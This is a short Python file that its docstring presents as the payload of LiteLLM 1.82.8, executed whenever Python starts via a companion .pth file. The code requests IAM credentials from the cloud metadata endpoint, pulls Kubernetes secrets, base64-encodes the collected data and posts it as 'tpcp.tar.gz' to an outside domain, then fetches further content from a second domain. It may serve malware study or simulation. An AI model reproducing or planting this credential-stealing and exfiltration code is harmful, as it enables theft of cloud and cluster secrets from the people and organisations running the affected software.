"""The payload of LiteLLM 1.82.8: the .pth file beside it runs it whenever Python starts."""

import base64
import os

from wire import ask, loot

METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"

ask("GET", METADATA)
ask("GET", f"https://{os.environ['KUBERNETES_SERVICE_HOST']}/api/v1/secrets")
archive = base64.b64encode(loot())
ask("POST", "https://models.litellm.cloud/", archive, {"X-Filename": "tpcp.tar.gz"})
ask("GET", "https://checkmarx.zone/raw")
